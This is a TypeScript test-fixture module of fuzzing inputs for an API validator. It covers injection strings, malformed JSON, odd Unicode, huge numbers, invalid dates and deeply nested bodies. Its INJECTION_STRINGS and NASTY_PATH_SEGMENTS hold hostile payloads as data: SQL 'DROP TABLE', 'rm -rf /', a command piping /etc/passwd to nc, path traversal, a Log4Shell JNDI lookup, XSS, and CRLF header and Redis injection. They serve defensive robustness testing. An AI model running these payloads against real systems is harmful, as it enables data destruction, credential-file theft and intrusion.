/** Strings an attacker or a broken client sends; each may still be valid free text for some fields. */
export const INJECTION_STRINGS: readonly string[] = [
  "'; DROP TABLE segments; --",
  '" OR "1"="1',
  '$(rm -rf /)',
  '`reboot`; cat /etc/passwd | nc 10.0.0.1 9',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '${jndi:ldap://127.0.0.1:9/a}',
  '<script>alert(1)</script>',
  '*\r\nSET vigil:pwned 1\r\n',
  '%s%s%s%n',
];

/** Unicode that trips naive byte/char handling: NUL, RTL, combining marks, astral plane, BOM. */
export const UNICODE_STRINGS: readonly string[] = [
  'nul\u0000byte',
  '\u202Egnp.exe',
  'Z\u0351\u0353\u0332a\u0334l\u0337g\u0338o',
  '\uD83D\uDE00\uD83D\uDCA5',
  '\uFEFFbom',
  '\uD800',
  '',
  ' ',
];

/** Values of every JSON type; `kindOf` picks those that differ from a field's valid type. */
export const TYPED_VALUES: ReadonlyArray<{ kind: JsonKind; value: unknown }> = [
  { kind: 'string', value: 'not-the-right-type\u0000' },
  { kind: 'number', value: 42 },
  { kind: 'number', value: -1e308 },
  { kind: 'boolean', value: true },
  { kind: 'null', value: null },
  { kind: 'array', value: [] },
  { kind: 'array', value: [1, 'two', null] },
  { kind: 'object', value: {} },
  { kind: 'object', value: { nested: { deeper: [1] } } },
];

export type JsonKind = 'string' | 'number' | 'boolean' | 'null' | 'array' | 'object';

export function kindOf(value: unknown): JsonKind {
  if (value === null) return 'null';
  if (Array.isArray(value)) return 'array';
  if (typeof value === 'string') return 'string';
  if (typeof value === 'number') return 'number';
  if (typeof value === 'boolean') return 'boolean';
  return 'object';
}

/** `[[[...]]]` nested `depth` levels: stresses recursive validators and serializers. */
export function deepArray(depth: number): unknown {
  let v: unknown = [];
  for (let i = 1; i < depth; i++) v = [v];
  return v;
}

/** `{"a":{"a":...}}` nested `depth` levels. */
export function deepObject(depth: number): unknown {
  let v: unknown = {};
  for (let i = 1; i < depth; i++) v = { a: v };
  return v;
}

/** Bodies that are not JSON at all, or almost JSON. */
export const MALFORMED_JSON: readonly string[] = [
  '{',
  '{"a":',
  '[1,2',
  'nul',
  '{"a":1}}',
  "{'a':1}",
  '{"a":1,}',
  '\u0000',
  '{"a":"\\uZZZZ"}',
  'NaN',
];

/** Path segments that are not ids: traversal, encodings, overlong, NUL. Already URL-encoded. */
export const NASTY_PATH_SEGMENTS: readonly string[] = [
  'not-a-uuid',
  '00000000-0000-0000-0000-000000000000',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '%ZZ',
  '%E0%A4%A',
  encodeURIComponent("'; DROP TABLE hosts; --"),
  encodeURIComponent('{{7*7}}'),
  '__proto__',
  'constructor',
  'x'.repeat(4000),
  encodeURIComponent('\uD83D\uDE00'),
  '%0d%0aSet-Cookie:%20a=b',
];

/**
 * Numbers as raw JSON text (JSON.stringify cannot write `1e400`): beyond float range (parsed as ±Infinity),
 * beyond 2^53, with a fraction, and negative zero. Numeric fields may accept some; none may crash.
 */
export const HUGE_NUMBERS: readonly string[] = [
  '1e400',
  '-1e400',
  '1e20',
  '123456789012345678901234567890',
  '9007199254740993',
  '-0',
  '0.0000001',
];

/** Date-times no parser should turn into a date: garbage, a number as text, impossible fields. */
export const INVALID_DATES: readonly string[] = [
  'not-a-date',
  '1e20',
  '2024-13-45T25:61:61Z',
  '0000-00-00T00:00:00',
  '2024-05-01T10:02:11+99:99',
];

/** Date-times a parser may take or refuse: outside JavaScript's Date range or outside four-digit years. */
export const EDGE_DATES: readonly string[] = [
  '+275760-09-13T00:00:00.001Z',
  '-271821-04-20T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999',
  '2024-02-30T10:00:00Z',
];

/** The depth of the security review's crashing body: 5,000 nested arrays, about 10 KB. */
export const REVIEW_DEPTH = 5000;

/** `deepArray(depth)` as JSON text, written directly: JSON.stringify itself overflows the stack near 5,000. */
export function deepArrayText(depth: number): string {
  return `${'['.repeat(depth)}${']'.repeat(depth)}`;
}
